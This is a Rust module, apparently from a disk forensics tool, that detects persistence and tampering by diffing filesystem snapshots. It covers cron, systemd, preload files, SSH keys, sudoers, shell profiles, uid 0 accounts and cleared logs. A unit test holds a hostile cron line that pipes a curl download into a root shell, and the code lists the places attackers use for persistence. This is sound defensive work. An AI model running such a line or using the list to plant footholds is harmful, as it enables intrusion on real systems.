//! Persistence and tampering: what a foothold leaves on disk, found by
//! comparing a snapshot's files with a baseline (the previous clean
//! snapshot). Without a baseline only what is suspicious on its own is
//! reported (a preload file, a second uid 0, executables in temp folders).

use crate::rules::Severity;
use cairn_guest::{FileEntry, FileKind, Filesystem};
use serde::{Deserialize, Serialize};
use std::collections::{HashMap, HashSet};

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Indicator {
    pub path: String,
    /// A short stable code: `cron`, `systemd`, `authorized_keys`…
    pub kind: String,
    pub severity: Severity,
    pub detail: String,
}

impl Indicator {
    pub fn severity_str(&self) -> &'static str {
        self.severity.as_str()
    }
}

/// Files read to compare lines are at most this large.
const MAX_TEXT: u64 = 1 << 20;
/// Lines quoted per finding.
const QUOTED_LINES: usize = 3;

/// One side of the comparison.
pub struct Side<'a> {
    pub fs: &'a dyn Filesystem,
    pub entries: &'a [FileEntry],
}

fn text(side: &Side, e: &FileEntry) -> Option<Vec<u8>> {
    if e.kind != FileKind::File || e.size > MAX_TEXT {
        return None;
    }
    cairn_guest::read_all(side.fs, e, MAX_TEXT).ok()
}

/// Lines that matter (not blank, not comments).
fn lines(data: &[u8]) -> Vec<String> {
    String::from_utf8_lossy(data)
        .lines()
        .map(|l| l.trim().to_string())
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect()
}

fn added_lines(old: Option<&[u8]>, new: &[u8]) -> Vec<String> {
    let before: HashSet<String> = old.map(lines).unwrap_or_default().into_iter().collect();
    lines(new)
        .into_iter()
        .filter(|l| !before.contains(l))
        .collect()
}

fn quote(lines: &[String]) -> String {
    let mut s: Vec<String> = lines
        .iter()
        .take(QUOTED_LINES)
        .map(|l| {
            let mut l = l.clone();
            if l.len() > 160 {
                let cut = (0..=160)
                    .rev()
                    .find(|&i| l.is_char_boundary(i))
                    .unwrap_or(0);
                l.truncate(cut);
                l.push('…');
            }
            format!("\"{l}\"")
        })
        .collect();
    if lines.len() > QUOTED_LINES {
        s.push(format!("and {} more", lines.len() - QUOTED_LINES));
    }
    s.join(", ")
}

/// Which persistence place a path is, if any (paths without a leading
/// slash; Windows places compared without case).
fn place(path: &str) -> Option<&'static str> {
    let lower = path.to_ascii_lowercase();
    let p = path;
    let under_user = |suffix: &str| {
        p.strip_prefix("root/").is_some_and(|r| r == suffix)
            || p.strip_prefix("home/")
                .and_then(|r| r.split_once('/'))
                .is_some_and(|(_, r)| r == suffix)
    };
    if p == "etc/crontab"
        || p == "etc/anacrontab"
        || p.starts_with("etc/cron.d/")
        || p.starts_with("etc/cron.hourly/")
        || p.starts_with("etc/cron.daily/")
        || p.starts_with("etc/cron.weekly/")
        || p.starts_with("etc/cron.monthly/")
        || p.starts_with("var/spool/cron/")
    {
        return Some("cron");
    }
    let unit = [".service", ".timer", ".socket", ".path"]
        .iter()
        .any(|s| p.ends_with(s));
    if unit
        && (p.starts_with("etc/systemd/system/")
            || p.starts_with("lib/systemd/system/")
            || p.starts_with("usr/lib/systemd/system/")
            || p.starts_with("etc/systemd/user/")
            || p.contains("/.config/systemd/user/"))
    {
        return Some("systemd");
    }
    if p == "etc/rc.local" || p.starts_with("etc/init.d/") {
        return Some("init_script");
    }
    if p == "etc/ld.so.preload" {
        return Some("ld_preload");
    }
    if p.ends_with("/.ssh/authorized_keys") || p.ends_with("/.ssh/authorized_keys2") {
        return Some("authorized_keys");
    }
    if p == "etc/sudoers" || p.starts_with("etc/sudoers.d/") {
        return Some("sudoers");
    }
    if p == "etc/profile"
        || p.starts_with("etc/profile.d/")
        || p == "etc/bash.bashrc"
        || p == "etc/environment"
        || [
            ".bashrc",
            ".profile",
            ".bash_profile",
            ".bash_login",
            ".zshrc",
        ]
        .iter()
        .any(|s| under_user(s))
    {
        return Some("shell_profile");
    }
    if lower.contains("/start menu/programs/startup/") {
        return Some("windows_startup");
    }
    if lower.starts_with("windows/system32/tasks/") {
        return Some("windows_task");
    }
    None
}

/// A file that runs without anyone starting it (a persistence place) or
/// sits in a world-writable temp folder. `path` has no leading slash.
pub fn runs_by_itself(path: &str) -> bool {
    place(path).is_some_and(|p| p != "authorized_keys" && p != "sudoers") || in_temp(path)
}

fn in_temp(path: &str) -> bool {
    path.starts_with("tmp/") || path.starts_with("var/tmp/") || path.starts_with("dev/shm/")
}

fn executable(side: &Side, e: &FileEntry) -> bool {
    if e.kind != FileKind::File {
        return false;
    }
    if e.mode.is_some_and(|m| m & 0o111 != 0) {
        return true;
    }
    let mut head = [0u8; 4];
    matches!(side.fs.read_at(e, 0, &mut head), Ok(4)) && &head == b"\x7fELF"
}

fn changed(old: &FileEntry, new: &FileEntry) -> bool {
    old.size != new.size || old.mtime_ns != new.mtime_ns || old.kind != new.kind
}

struct Account {
    uid: u32,
}

fn accounts(data: &[u8]) -> HashMap<String, Account> {
    String::from_utf8_lossy(data)
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            (f.len() >= 7).then(|| {
                (
                    f[0].to_string(),
                    Account {
                        uid: f[2].parse().unwrap_or(u32::MAX),
                    },
                )
            })
        })
        .collect()
}

/// Accounts whose shadow entry went from no password to a usable one.
fn passwords_set(old: Option<&[u8]>, new: &[u8]) -> Vec<String> {
    let usable = |h: &str| !(h.is_empty() || h.starts_with('!') || h.starts_with('*'));
    let before: HashMap<String, bool> = old
        .map(|d| {
            String::from_utf8_lossy(d)
                .lines()
                .filter_map(|l| l.split_once(':'))
                .map(|(u, rest)| (u.to_string(), usable(rest.split(':').next().unwrap_or(""))))
                .collect()
        })
        .unwrap_or_default();
    String::from_utf8_lossy(new)
        .lines()
        .filter_map(|l| l.split_once(':'))
        .filter(|(u, rest)| {
            usable(rest.split(':').next().unwrap_or("")) && before.get(*u) == Some(&false)
        })
        .map(|(u, _)| u.to_string())
        .collect()
}

/// The text parsers of this module on arbitrary old and new content.
pub(crate) fn fuzz_text(old: &[u8], new: &[u8]) {
    let _ = accounts(new);
    let _ = passwords_set(Some(old), new);
    let _ = quote(&added_lines(Some(old), new));
}

/// The indicators in `new`, against `old` when there is a baseline.
pub fn indicators(old: Option<&Side>, new: &Side) -> Vec<Indicator> {
    let mut out = Vec::new();
    let old_by_path: HashMap<&[u8], &FileEntry> = old
        .map(|o| o.entries.iter().map(|e| (e.path.as_slice(), e)).collect())
        .unwrap_or_default();
    let mut push = |path: &str, kind: &str, severity, detail: String| {
        out.push(Indicator {
            path: format!("/{path}"),
            kind: kind.to_string(),
            severity,
            detail,
        })
    };
    let paths_added: HashSet<&[u8]> = new
        .entries
        .iter()
        .map(|e| e.path.as_slice())
        .filter(|p| old.is_some() && !old_by_path.contains_key(p))
        .collect();
    for e in new.entries {
        if e.unsafe_name {
            continue;
        }
        let path = String::from_utf8_lossy(&e.path);
        let before = old_by_path.get(e.path.as_slice()).copied();
        let is_new = old.is_some() && before.is_none();
        let is_changed = before.is_some_and(|b| changed(b, e));

        // Executables dropped where anyone can write.
        if in_temp(&path) && (old.is_none() || is_new || is_changed) && executable(new, e) {
            push(
                &path,
                "temp_executable",
                Severity::Compromised,
                format!(
                    "executable {} in a world-writable temp folder",
                    if is_new || old.is_none() {
                        "placed"
                    } else {
                        "changed"
                    }
                ),
            );
        }
        // New set-uid / set-gid programs.
        let privileged = |m: Option<u32>| m.is_some_and(|m| m & 0o6000 != 0);
        if e.kind == FileKind::File && privileged(e.mode) && old.is_some() {
            let was = before.is_some_and(|b| privileged(b.mode));
            if !was || is_changed {
                push(
                    &path,
                    "setuid",
                    Severity::Warning,
                    format!(
                        "{} set-{}id program (mode {:o}, owner uid {})",
                        if !was && before.is_none() {
                            "new"
                        } else if !was {
                            "newly"
                        } else {
                            "changed"
                        },
                        if e.mode.unwrap_or(0) & 0o4000 != 0 {
                            "u"
                        } else {
                            "g"
                        },
                        e.mode.unwrap_or(0) & 0o7777,
                        e.uid.map(|u| u.to_string()).unwrap_or_else(|| "?".into()),
                    ),
                );
            }
        }
        // Cleared logs: shrank to (almost) nothing without a rotation.
        if let Some(b) = before
            && path.starts_with("var/log/")
            && e.kind == FileKind::File
            && b.size >= 1024
            && e.size * 10 < b.size
        {
            let rotated = [".1", ".1.gz", "-1", ".0"].iter().any(|s| {
                let mut p = e.path.clone();
                p.extend_from_slice(s.as_bytes());
                paths_added.contains(p.as_slice())
                    || new.entries.iter().any(|x| {
                        x.path == p && old_by_path.get(p.as_slice()).is_none_or(|o| changed(o, x))
                    })
            });
            if !rotated {
                push(
                    &path,
                    "log_cleared",
                    Severity::Warning,
                    format!(
                        "log shrank from {} to {} bytes without a rotation",
                        b.size, e.size
                    ),
                );
            }
        }
        if e.kind != FileKind::File && e.kind != FileKind::Symlink {
            continue;
        }
        if path == "etc/passwd" {
            let Some(now) = text(new, e) else { continue };
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            let prior = then.as_deref().map(accounts).unwrap_or_default();
            for (name, acc) in accounts(&now) {
                if acc.uid == 0 && name != "root" && prior.get(&name).is_none_or(|p| p.uid != 0) {
                    push(
                        &path,
                        "uid0_account",
                        Severity::Compromised,
                        format!("account {name} has uid 0 (root's powers)"),
                    );
                } else if old.is_some() && before.is_some() && !prior.contains_key(&name) {
                    push(
                        &path,
                        "new_account",
                        Severity::Warning,
                        format!("new account {name} (uid {})", acc.uid),
                    );
                }
            }
            continue;
        }
        if path == "etc/shadow" && old.is_some() {
            let Some(now) = text(new, e) else { continue };
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            for name in passwords_set(then.as_deref(), &now) {
                push(
                    &path,
                    "password_set",
                    Severity::Warning,
                    format!("a password was set for {name}, which had none"),
                );
            }
            continue;
        }
        let Some(kind) = place(&path) else { continue };
        if kind == "ld_preload" {
            // Suspicious on its own: almost no system has one.
            if e.size > 0 && (old.is_none() || is_new || is_changed) {
                let quoted = text(new, e).map(|t| quote(&lines(&t))).unwrap_or_default();
                push(
                    &path,
                    kind,
                    Severity::Compromised,
                    format!("libraries preloaded into every program: {quoted}"),
                );
            }
            continue;
        }
        if old.is_none() || !(is_new || is_changed) {
            continue;
        }
        let what = match kind {
            "cron" => "cron entry",
            "systemd" => "systemd unit",
            "init_script" => "boot script",
            "authorized_keys" => "SSH key allowed to log in",
            "sudoers" => "sudo rule",
            "shell_profile" => "shell start-up command",
            "windows_startup" => "program started at log-on",
            _ => "scheduled task",
        };
        let detail = if e.kind == FileKind::Symlink {
            format!(
                "{} {what}: link to {}",
                if is_new { "new" } else { "changed" },
                e.link_target
                    .as_ref()
                    .map(|t| String::from_utf8_lossy(t).into_owned())
                    .unwrap_or_default()
            )
        } else {
            let now = text(new, e).unwrap_or_default();
            let then = before.zip(old).and_then(|(b, o)| text(o, b));
            let added = added_lines(then.as_deref(), &now);
            if added.is_empty() && !is_new {
                // Only lines removed or reordered: not a new foothold.
                continue;
            }
            if added.is_empty() {
                format!("new {what} file")
            } else {
                format!(
                    "{} {what}{}: {}",
                    if is_new { "new" } else { "added" },
                    if added.len() > 1 { "s" } else { "" },
                    quote(&added)
                )
            }
        };
        push(&path, kind, Severity::Warning, detail);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_are_recognised() {
        assert_eq!(place("etc/cron.d/backup"), Some("cron"));
        assert_eq!(place("var/spool/cron/crontabs/root"), Some("cron"));
        assert_eq!(place("etc/systemd/system/evil.service"), Some("systemd"));
        assert_eq!(
            place("home/ann/.ssh/authorized_keys"),
            Some("authorized_keys")
        );
        assert_eq!(place("home/ann/.bashrc"), Some("shell_profile"));
        assert_eq!(place("home/ann/docs/.bashrc"), None);
        assert_eq!(
            place("ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/x.lnk"),
            Some("windows_startup")
        );
        assert_eq!(place("etc/hostname"), None);
    }

    #[test]
    fn added_lines_ignore_comments_and_order() {
        let old = b"# m h\n0 1 * * * root /usr/bin/backup\n";
        let new = b"# m h\n* * * * * root curl x|sh\n0 1 * * * root /usr/bin/backup\n\n";
        assert_eq!(
            added_lines(Some(old), new),
            vec!["* * * * * root curl x|sh"]
        );
        assert!(added_lines(Some(new), old).is_empty());
    }

    #[test]
    fn passwords_set_only_for_locked_accounts() {
        let old = b"root:$6$abc:1::::::\ndaemon:*:1::::::\nann:!:1::::::\n";
        let new = b"root:$6$xyz:1::::::\ndaemon:$6$evil:1::::::\nann:!:1::::::\n";
        assert_eq!(passwords_set(Some(old), new), vec!["daemon"]);
    }
}
